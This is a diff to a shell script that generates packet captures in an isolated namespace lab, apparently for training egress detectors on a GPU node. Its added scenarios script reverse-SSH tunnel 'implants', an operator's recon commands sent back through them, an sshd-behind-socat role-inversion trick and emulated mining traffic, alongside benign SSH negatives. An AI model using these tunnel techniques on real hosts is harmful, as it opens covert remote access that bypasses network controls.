@@ -3,13 +3,18 @@
 #
 #   tools/mkpcaps.sh              all lab captures, then the crafted ones (tools/mkpcap.py)
 #   tools/mkpcaps.sh NAME ...     only these (ssh-forward-login ssh-nonstd-port ssh-reverse-tunnel
-#                                 tls-sni dns-then-tls stratum-btc stratum-xmrig stratum-ethproxy
-#                                 stratum-nicehash jsonrpc-eth-node crafted)
+#                                 ssh-rshell-* ssh-rtunnel-late ssh-role-inversion ssh-bastion-login
+#                                 ssh-scp-bulk ssh-rsync ssh-sftp ssh-git-like ssh-local-forward
+#                                 ssh-inbound-admin ssh-agent-fwd ssh-autossh-keepalive tls-sni
+#                                 dns-then-tls stratum-btc stratum-xmrig stratum-ethproxy
+#                                 stratum-nicehash jsonrpc-eth-node crafted; see $ALL below)
 #
 # Builds the lab with tools/lab.sh (train 10.20.0.10 -- router -- WAN delay -- outside), runs
 # each scenario with tcpdump on the router's outside veth (r-out, the mirrored edge port), and
 # tears everything down in a trap, killing only the PIDs started here. Nothing is routed outside
-# the namespaces. Environment: OUT (default pcaps/), LAB_DELAY_MS (default 20).
+# the namespaces. Environment: OUT (default pcaps/), LAB_DELAY_MS (default 20), LAB_PREFIX
+# (namespace name prefix, default none; e.g. LAB_PREFIX=ssh- LAB_RUN=/tmp/egress-lab-ssh to run
+# next to another lab).
 set -euo pipefail
 
 HERE=$(cd "$(dirname "$0")" && pwd)
@@ -19,6 +24,10 @@ PY=/usr/bin/python3
 SVC="$PY $HERE/labsvc.py"
 EMU="$PY $HERE/stratum-emu.py"
 export LAB_RUN=${LAB_RUN:-/tmp/egress-lab}
+export LAB_PREFIX=${LAB_PREFIX:-}
+NS_T=${LAB_PREFIX}train
+NS_R=${LAB_PREFIX}router
+NS_O=${LAB_PREFIX}outside
 W=$(mktemp -d /tmp/mkpcaps.XXXXXX)
 chmod 755 "$W"
 PIDS=()
@@ -64,7 +73,7 @@ CAP_PID=
 cap_start() {
 	local f=$OUT/$1.pcap
 	rm -f "$f"
-	ip netns exec router tcpdump -i r-out -s 0 -U -n -Z root -w "$f" 2>"$W/tcpdump.err" &
+	ip netns exec "$NS_R" tcpdump -i r-out -s 0 -U -n -Z root -w "$f" 2>"$W/tcpdump.err" &
 	CAP_PID=$!
 	PIDS+=($CAP_PID)
 	local i=0
@@ -106,9 +115,9 @@ ssh_setup() {
 	SSH_READY=1
 }
 
-# sshd_start NS HOSTNAME "ListenAddress lines..."
-sshd_start() {
-	local ns=$1 hn=$2 listen=$3 d=$W/sshd-$1
+# sshd_conf ROLE HOSTNAME "ListenAddress lines...": host keys and $W/sshd-ROLE/sshd_config
+sshd_conf() {
+	local role=$1 hn=$2 listen=$3 d=$W/sshd-$1
 	mkdir -p "$d"
 	echo "$hn" >"$d/hostname"
 	ssh-keygen -q -t ed25519 -N '' -f "$d/ssh_host_ed25519_key"
@@ -134,16 +143,30 @@ sshd_start() {
 		AcceptEnv LANG LC_*
 		EOF
 	} >"$d/sshd_config"
-	bg "$ns" unshare --mount --uts /bin/sh -c "
-		mount --bind $W/etc/passwd /etc/passwd &&
+}
+
+# in_sshd_world ROLE HOSTNAME CMD: the shell snippet that gives CMD the lab's private user
+# database, hostname, /run and /var/log (run it under unshare --mount --uts)
+in_sshd_world() {
+	local d=$W/sshd-$1
+	echo "mount --bind $W/etc/passwd /etc/passwd &&
 		mount --bind $W/etc/shadow /etc/shadow &&
 		mount --bind $W/etc/group /etc/group &&
 		mount --bind $d/hostname /etc/hostname &&
 		mount -t tmpfs tmpfs /run && mkdir -m 755 /run/sshd &&
 		mount -t tmpfs tmpfs /var/log &&
-		hostname $hn &&
-		exec /usr/sbin/sshd -D -e -f $d/sshd_config" 2>"$d/sshd.log"
-	eval "SSHD_PID_$ns=$LASTPID"
+		hostname $2 &&
+		exec $3"
+}
+
+# sshd_start ROLE(outside|train) HOSTNAME "ListenAddress lines..."
+sshd_start() {
+	local role=$1 ns d=$W/sshd-$1
+	case $role in outside) ns=$NS_O ;; train) ns=$NS_T ;; esac
+	sshd_conf "$@"
+	bg "$ns" unshare --mount --uts /bin/sh -c \
+	    "$(in_sshd_world "$role" "$2" "/usr/sbin/sshd -D -e -f $d/sshd_config")" 2>"$d/sshd.log"
+	eval "SSHD_PID_$role=$LASTPID"
 }
 
 SSH_OPTS=(-F /dev/null -i "$W/keys/id_user" -o StrictHostKeyChecking=no
@@ -154,17 +177,29 @@ SSH_OPTS=(-F /dev/null -i "$W/keys/id_user" -o StrictHostKeyChecking=no
 outside_sshd() {
 	ssh_setup
 	if [ -z "${SSHD_PID_outside:-}" ]; then
-		sshd_start outside bastion "203.0.113.22:22; 198.51.100.7:2222; 198.51.100.7:443"
-		wait_listen outside 203.0.113.22:22
-		wait_listen outside 198.51.100.7:2222
-		wait_listen outside 198.51.100.7:443
+		sshd_start outside bastion \
+		    "203.0.113.22:22; 198.51.100.7:22; 198.51.100.7:2222; 198.51.100.7:443"
+		wait_listen "$NS_O" 203.0.113.22:22
+		wait_listen "$NS_O" 198.51.100.7:22
+		wait_listen "$NS_O" 198.51.100.7:2222
+		wait_listen "$NS_O" 198.51.100.7:443
+	fi
+}
+
+# the inside GPU node's own sshd (the target of reverse tunnels and of inbound admin logins)
+train_sshd() {
+	ssh_setup
+	if [ -z "${SSHD_PID_train:-}" ]; then
+		sshd_start train gpu-node-07 "127.0.0.1:22; 10.20.0.10:22"
+		wait_listen "$NS_T" 127.0.0.1:22
+		wait_listen "$NS_T" 10.20.0.10:22
 	fi
 }
 
 do_ssh_forward_login() {
 	outside_sshd
 	cap_start ssh-forward-login
-	ip netns exec train $SVC typer --seed 11 --line "ls" --line "whoami" --line "exit" -- \
+	ip netns exec "$NS_T" $SVC typer --seed 11 --line "ls" --line "whoami" --line "exit" -- \
 	    ssh "${SSH_OPTS[@]}" -tt -p 22 user@203.0.113.22 2>>"$W/typer.log"
 	cap_stop
 }
@@ -172,26 +207,23 @@ do_ssh_forward_login() {
 do_ssh_nonstd_port() {
 	outside_sshd
 	cap_start ssh-nonstd-port
-	ip netns exec train $SVC typer --seed 22 --line "uptime" --line "exit" -- \
+	ip netns exec "$NS_T" $SVC typer --seed 22 --line "uptime" --line "exit" -- \
 	    ssh "${SSH_OPTS[@]}" -tt -p 2222 user@198.51.100.7 2>>"$W/typer.log"
 	cap_stop
 }
 
 do_ssh_reverse_tunnel() {
 	outside_sshd
-	if [ -z "${SSHD_PID_train:-}" ]; then
-		sshd_start train gpu-node-07 "127.0.0.1:22"
-		wait_listen train 127.0.0.1:22
-	fi
+	train_sshd
 	cap_start ssh-reverse-tunnel
 	# the implant: an outbound session to 198.51.100.7:443 that opens a remote forward
-	bg train ssh "${SSH_OPTS[@]}" -N -o BatchMode=yes -o ExitOnForwardFailure=yes \
+	bg "$NS_T" ssh "${SSH_OPTS[@]}" -N -o BatchMode=yes -o ExitOnForwardFailure=yes \
 	    -R 2200:localhost:22 -p 443 user@198.51.100.7
 	local tun=$LASTPID
-	wait_listen outside 127.0.0.1:2200
+	wait_listen "$NS_O" 127.0.0.1:2200
 	sleep 1.5
 	# the operator, on the outside host, logs in back through the tunnel
-	ip netns exec outside $SVC typer --seed 33 --line "id" --line "hostname" \
+	ip netns exec "$NS_O" $SVC typer --seed 33 --line "id" --line "hostname" \
 	    --line "ls /" --line "exit" -- \
 	    ssh "${SSH_OPTS[@]}" -tt -p 2200 user@127.0.0.1 2>>"$W/typer.log"
 	sleep 2
@@ -207,13 +239,13 @@ tls_cert() {
 
 do_tls_sni() {
 	tls_cert www.example.org
-	bg outside openssl s_server -quiet -www -accept 198.51.100.20:443 \
+	bg "$NS_O" openssl s_server -quiet -www -accept 198.51.100.20:443 \
 	    -cert "$W/tls.crt" -key "$W/tls.key"
 	local srv=$LASTPID
-	wait_listen outside 198.51.100.20:443
+	wait_listen "$NS_O" 198.51.100.20:443
 	cap_start tls-sni
 	{ printf 'GET / HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n'; sleep 1.5; } |
-	    timeout 10 ip netns exec train openssl s_client -quiet -servername www.example.org \
+	    timeout 10 ip netns exec "$NS_T" openssl s_client -quiet -servername www.example.org \
 	    -connect 198.51.100.20:443 >/dev/null 2>"$W/s_client.log" || true
 	cap_stop
 	stop "$srv"
@@ -221,19 +253,19 @@ do_tls_sni() {
 
 do_dns_then_tls() {
 	tls_cert www.example.org
-	bg outside $SVC dns-server --listen 198.51.100.53:53 \
+	bg "$NS_O" $SVC dns-server --listen 198.51.100.53:53 \
 	    --map pool.supportxmr.com=198.51.100.30 --map www.example.org=198.51.100.20
 	local dns=$LASTPID
-	wait_listen outside 198.51.100.53:53 udp
-	bg outside openssl s_server -quiet -www -accept 198.51.100.30:443 \
+	wait_listen "$NS_O" 198.51.100.53:53 udp
+	bg "$NS_O" openssl s_server -quiet -www -accept 198.51.100.30:443 \
 	    -cert "$W/tls.crt" -key "$W/tls.key"
 	local srv=$LASTPID
-	wait_listen outside 198.51.100.30:443
+	wait_listen "$NS_O" 198.51.100.30:443
 	cap_start dns-then-tls
-	ip netns exec train $SVC dns-query --server 198.51.100.53 pool.supportxmr.com
+	ip netns exec "$NS_T" $SVC dns-query --server 198.51.100.53 pool.supportxmr.com
 	sleep 0.3
 	{ printf 'GET / HTTP/1.1\r\nHost: pool.supportxmr.com\r\n\r\n'; sleep 1.5; } |
-	    timeout 10 ip netns exec train openssl s_client -quiet -noservername \
+	    timeout 10 ip netns exec "$NS_T" openssl s_client -quiet -noservername \
 	    -connect 198.51.100.30:443 >/dev/null 2>"$W/s_client.log" || true
 	cap_stop
 	stop "$srv"; stop "$dns"
@@ -241,32 +273,220 @@ do_dns_then_tls() {
 
 # do_stratum DIALECT ADDR:PORT
 do_stratum() {
-	bg outside $EMU --role pool --dialect "$1" --listen "$2" --delay-ms 400 --once
+	bg "$NS_O" $EMU --role pool --dialect "$1" --listen "$2" --delay-ms 400 --once
 	local pool=$LASTPID
-	wait_listen outside "$2"
+	wait_listen "$NS_O" "$2"
 	cap_start "stratum-$1"
-	ip netns exec train $EMU --role miner --dialect "$1" --connect "$2" --submits 3 --delay-ms 900
+	ip netns exec "$NS_T" $EMU --role miner --dialect "$1" --connect "$2" --submits 3 --delay-ms 900
 	cap_stop
 	stop "$pool"
 }
 
 do_jsonrpc_eth_node() {
-	bg outside $SVC rpc-server --listen 198.51.100.40:8545
+	bg "$NS_O" $SVC rpc-server --listen 198.51.100.40:8545
 	local rpc=$LASTPID
-	bg outside $SVC log-sink --listen 198.51.100.40:5170
+	bg "$NS_O" $SVC log-sink --listen 198.51.100.40:5170
 	local sink=$LASTPID
-	wait_listen outside 198.51.100.40:8545
-	wait_listen outside 198.51.100.40:5170
+	wait_listen "$NS_O" 198.51.100.40:8545
+	wait_listen "$NS_O" 198.51.100.40:5170
 	cap_start jsonrpc-eth-node
-	ip netns exec train $SVC rpc-client --connect 198.51.100.40:8545 --gap-ms 300 >/dev/null
-	ip netns exec train $SVC log-ship --connect 198.51.100.40:5170 --lines 12 --gap-ms 150
+	ip netns exec "$NS_T" $SVC rpc-client --connect 198.51.100.40:8545 --gap-ms 300 >/dev/null
+	ip netns exec "$NS_T" $SVC log-ship --connect 198.51.100.40:5170 --lines 12 --gap-ms 150
 	cap_stop
 	stop "$rpc"; stop "$sink"
 }
 
+# ---------------------------------------------------------------- ssh: issue #3 (reverse SSH)
+# Commands the operator types in a reverse shell (into the inside GPU node).
+RSHELL_LINES=(--line "id" --line "hostname" --line "uname -a" --line "ls -la ~"
+	--line "cat /etc/os-release" --line "exit")
+
+# do_rshell NAME OUTER_PORT TUNNEL_PORT SEED [outer ssh options...]
+# The implant in train: ssh -N -R TUNNEL_PORT:localhost:22 -p OUTER_PORT user@198.51.100.7; the
+# operator in outside logs in back through the tunnel (ssh -p TUNNEL_PORT user@127.0.0.1) and
+# types RSHELL_LINES.
+do_rshell() {
+	local name=$1 port=$2 tport=$3 seed=$4
+	shift 4
+	outside_sshd
+	train_sshd
+	cap_start "$name"
+	bg "$NS_T" ssh "$@" "${SSH_OPTS[@]}" -N -o BatchMode=yes -o ExitOnForwardFailure=yes \
+	    -R "$tport:localhost:22" -p "$port" user@198.51.100.7
+	local tun=$LASTPID
+	wait_listen "$NS_O" "127.0.0.1:$tport"
+	sleep 1.5
+	ip netns exec "$NS_O" $SVC typer --seed "$seed" "${RSHELL_LINES[@]}" -- \
+	    ssh "${SSH_OPTS[@]}" -tt -p "$tport" user@127.0.0.1 2>>"$W/typer.log"
+	sleep 2
+	stop "$tun"
+	cap_stop
+}
+
+# The tunnel is set up, sits idle with keepalives (ServerAliveInterval=5) for RTUNNEL_IDLE
+# seconds, then the operator uses it.
+do_ssh_rtunnel_late() {
+	outside_sshd
+	train_sshd
+	cap_start ssh-rtunnel-late
+	bg "$NS_T" ssh -o ServerAliveInterval=5 -o ServerAliveCountMax=3 "${SSH_OPTS[@]}" -N \
+	    -o BatchMode=yes -o ExitOnForwardFailure=yes -R 2201:localhost:22 -p 22 user@198.51.100.7
+	local tun=$LASTPID
+	wait_listen "$NS_O" 127.0.0.1:2201
+	sleep "${RTUNNEL_IDLE:-45}"
+	ip netns exec "$NS_O" $SVC typer --seed 55 --line "id" --line "hostname" \
+	    --line "uname -a" --line "exit" -- \
+	    ssh "${SSH_OPTS[@]}" -tt -p 2201 user@127.0.0.1 2>>"$W/typer.log"
+	sleep 2
+	stop "$tun"
+	cap_stop
+}
+
+# The inside host opens the TCP connection (to 198.51.100.8:443) but runs the SSH *server*
+# (sshd -i behind socat); the outside operator's ssh client waits for it with a ProxyCommand
+# listener and types commands.
+do_ssh_role_inversion() {
+	train_sshd
+	local d=$W/sshd-train
+	cap_start ssh-role-inversion
+	bg "$NS_O" $SVC typer --seed 66 "${RSHELL_LINES[@]}" -- \
+	    ssh "${SSH_OPTS[@]}" -tt -o HostKeyAlias=gpu-node-07 \
+	    -o "ProxyCommand=socat - TCP-LISTEN:443,bind=198.51.100.8,reuseaddr" user@gpu-node-07 \
+	    2>>"$W/typer.log"
+	local op=$LASTPID
+	wait_listen "$NS_O" 198.51.100.8:443
+	sleep 1
+	bg "$NS_T" unshare --mount --uts /bin/sh -c "$(in_sshd_world train gpu-node-07 \
+	    "socat TCP:198.51.100.8:443 EXEC:'/usr/sbin/sshd -i -e -f $d/sshd_config'")" \
+	    2>"$W/sshd-i.log"
+	local imp=$LASTPID
+	wait "$op"
+	sleep 2
+	stop "$imp"
+	cap_stop
+}
+
+# Negatives: ordinary SSH use that must not look like a reverse shell.
+do_ssh_bastion_login() {
+	outside_sshd
+	cap_start ssh-bastion-login
+	ip netns exec "$NS_T" $SVC typer --seed 77 --pause 1.5 4 --line "uptime" --line "df -h /" \
+	    --line "ls -la" --line "ls -R /usr/share | head -500" --line "cat notes.txt" \
+	    --line "uname -r" --line "date" --line "exit" -- \
+	    ssh "${SSH_OPTS[@]}" -tt -p 22 user@203.0.113.22 2>>"$W/typer.log"
+	cap_stop
+}
+
+do_ssh_scp_bulk() {
+	outside_sshd
+	head -c "${SCP_BYTES:-2500000}" /dev/urandom >"$W/checkpoint.bin"
+	chmod 644 "$W/checkpoint.bin"
+	cap_start ssh-scp-bulk
+	ip netns exec "$NS_T" scp "${SSH_OPTS[@]}" -P 22 "$W/checkpoint.bin" \
+	    user@198.51.100.7:data/checkpoint.bin
+	cap_stop
+}
+
+do_ssh_rsync() {
+	outside_sshd
+	local t=$W/tree i
+	mkdir -p "$t/src" "$t/configs" "$t/logs"
+	for i in 1 2 3 4 5 6; do head -c $((i * 20000)) /dev/urandom | base64 >"$t/src/mod$i.py"; done
+	for i in a b c; do seq 1 $((RANDOM % 2000 + 500)) >"$t/configs/$i.yaml"; done
+	head -c 60000 /dev/urandom | base64 >"$t/logs/train.log"
+	chmod -R a+rX "$t"
+	cap_start ssh-rsync
+	ip netns exec "$NS_T" rsync -a -e "ssh ${SSH_OPTS[*]} -p 22" "$t/" user@198.51.100.7:data/tree/
+	cap_stop
+}
+
+do_ssh_sftp() {
+	outside_sshd
+	mkdir -p "$W/dl"
+	cap_start ssh-sftp
+	(cd "$W/dl" && ip netns exec "$NS_T" $SVC typer --seed 88 --prompt 'sftp> $' --line "pwd" \
+	    --line "ls -l" --line "cd data" --line "ls" --line "cd .." --line "get notes.txt" \
+	    --line "bye" -- sftp "${SSH_OPTS[@]}" -P 22 user@198.51.100.7 2>>"$W/typer.log")
+	cap_stop
+}
+
+do_ssh_git_like() {
+	outside_sshd
+	cap_start ssh-git-like
+	ip netns exec "$NS_T" ssh "${SSH_OPTS[@]}" -T -p 22 user@198.51.100.7 \
+	    'cat /etc/os-release; sleep 1; head -c 200000 /dev/urandom | base64' >/dev/null
+	cap_stop
+}
+
+do_ssh_local_forward() {
+	outside_sshd
+	mkdir -p "$W/www"
+	echo '{"model":"llama-7b","status":"ok"}' >"$W/www/status.json"
+	head -c 30000 /dev/urandom | base64 >"$W/www/metrics.txt"
+	(cd "$W/www" && exec ip netns exec "$NS_O" python3 -m http.server --bind 127.0.0.1 8000 \
+	    >/dev/null 2>&1) &
+	PIDS+=($!)
+	local web=$!
+	wait_listen "$NS_O" 127.0.0.1:8000
+	cap_start ssh-local-forward
+	bg "$NS_T" ssh "${SSH_OPTS[@]}" -N -o ExitOnForwardFailure=yes -L 8080:127.0.0.1:8000 \
+	    -p 22 user@198.51.100.7
+	local fwd=$LASTPID
+	wait_listen "$NS_T" 127.0.0.1:8080
+	for u in / status.json metrics.txt status.json; do
+		sleep 1.5
+		ip netns exec "$NS_T" curl -s -o /dev/null "http://127.0.0.1:8080/${u#/}"
+	done
+	sleep 1
+	stop "$fwd"
+	cap_stop
+	stop "$web"
+}
+
+do_ssh_inbound_admin() {
+	train_sshd
+	cap_start ssh-inbound-admin
+	ip netns exec "$NS_O" $SVC typer --seed 99 --line "uptime" --line "free -m" \
+	    --line "df -h /" --line "ls -la" --line "exit" -- \
+	    ssh "${SSH_OPTS[@]}" -b 198.51.100.50 -tt -p 22 user@10.20.0.10 2>>"$W/typer.log"
+	cap_stop
+}
+
+do_ssh_agent_fwd() {
+	outside_sshd
+	local sock=$W/agent.sock
+	ip netns exec "$NS_T" ssh-agent -a "$sock" >"$W/agent.env"
+	local agent
+	agent=$(sed -n 's/^SSH_AGENT_PID=\([0-9]*\);.*/\1/p' "$W/agent.env")
+	PIDS+=("$agent")
+	SSH_AUTH_SOCK=$sock ssh-add -q "$W/keys/id_user"
+	cap_start ssh-agent-fwd
+	SSH_AUTH_SOCK=$sock ip netns exec "$NS_T" $SVC typer --seed 111 --line "ssh-add -l" \
+	    --line "hostname" --line "ls -la" --line "ssh-add -l" \
+	    --line "ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR 203.0.113.22 uptime" \
+	    --line "exit" -- \
+	    ssh -A "${SSH_OPTS[@]}" -tt -p 22 user@198.51.100.7 2>>"$W/typer.log"
+	cap_stop
+	kill "$agent" 2>/dev/null || true
+}
+
+do_ssh_autossh_keepalive() {
+	outside_sshd
+	cap_start ssh-autossh-keepalive
+	bg "$NS_T" ssh -o ServerAliveInterval=2 -o ServerAliveCountMax=3 "${SSH_OPTS[@]}" -N \
+	    -o BatchMode=yes -p 22 user@198.51.100.7
+	local k=$LASTPID
+	sleep "${KEEPALIVE_HOLD:-50}"
+	stop "$k"
+	cap_stop
+}
+
 # ---------------------------------------------------------------- main
-ALL="ssh-forward-login ssh-nonstd-port ssh-reverse-tunnel tls-sni dns-then-tls stratum-btc
-stratum-xmrig stratum-ethproxy stratum-nicehash jsonrpc-eth-node crafted"
+ALL="ssh-forward-login ssh-nonstd-port ssh-reverse-tunnel ssh-rshell-22-chacha
+ssh-rshell-443-aesgcm ssh-rshell-22-aesctr-hmac ssh-rshell-443-etm ssh-rtunnel-late
+ssh-role-inversion ssh-bastion-login ssh-scp-bulk ssh-rsync ssh-sftp ssh-git-like
+ssh-local-forward ssh-inbound-admin ssh-agent-fwd ssh-autossh-keepalive tls-sni dns-then-tls
+stratum-btc stratum-xmrig stratum-ethproxy stratum-nicehash jsonrpc-eth-node crafted"
 WANT=${*:-$ALL}
 
 need_lab() {
@@ -281,6 +501,25 @@ for n in $WANT; do
 	ssh-forward-login) need_lab; do_ssh_forward_login ;;
 	ssh-nonstd-port) need_lab; do_ssh_nonstd_port ;;
 	ssh-reverse-tunnel) need_lab; do_ssh_reverse_tunnel ;;
+	ssh-rshell-22-chacha) need_lab
+		do_rshell "$n" 22 2200 101 -c chacha20-poly1305@openssh.com ;;
+	ssh-rshell-443-aesgcm) need_lab
+		do_rshell "$n" 443 4422 102 -c aes256-gcm@openssh.com ;;
+	ssh-rshell-22-aesctr-hmac) need_lab
+		do_rshell "$n" 22 8022 103 -c aes128-ctr -m hmac-sha2-256 ;;
+	ssh-rshell-443-etm) need_lab
+		do_rshell "$n" 443 10022 104 -c aes128-ctr -m hmac-sha2-256-etm@openssh.com ;;
+	ssh-rtunnel-late) need_lab; do_ssh_rtunnel_late ;;
+	ssh-role-inversion) need_lab; do_ssh_role_inversion ;;
+	ssh-bastion-login) need_lab; do_ssh_bastion_login ;;
+	ssh-scp-bulk) need_lab; do_ssh_scp_bulk ;;
+	ssh-rsync) need_lab; do_ssh_rsync ;;
+	ssh-sftp) need_lab; do_ssh_sftp ;;
+	ssh-git-like) need_lab; do_ssh_git_like ;;
+	ssh-local-forward) need_lab; do_ssh_local_forward ;;
+	ssh-inbound-admin) need_lab; do_ssh_inbound_admin ;;
+	ssh-agent-fwd) need_lab; do_ssh_agent_fwd ;;
+	ssh-autossh-keepalive) need_lab; do_ssh_autossh_keepalive ;;
 	tls-sni) need_lab; do_tls_sni
 		tshark -r "$OUT/tls-sni.pcap" -F pcapng -w "$OUT/tls-sni.pcapng" ;;
 	dns-then-tls) need_lab; do_dns_then_tls ;;
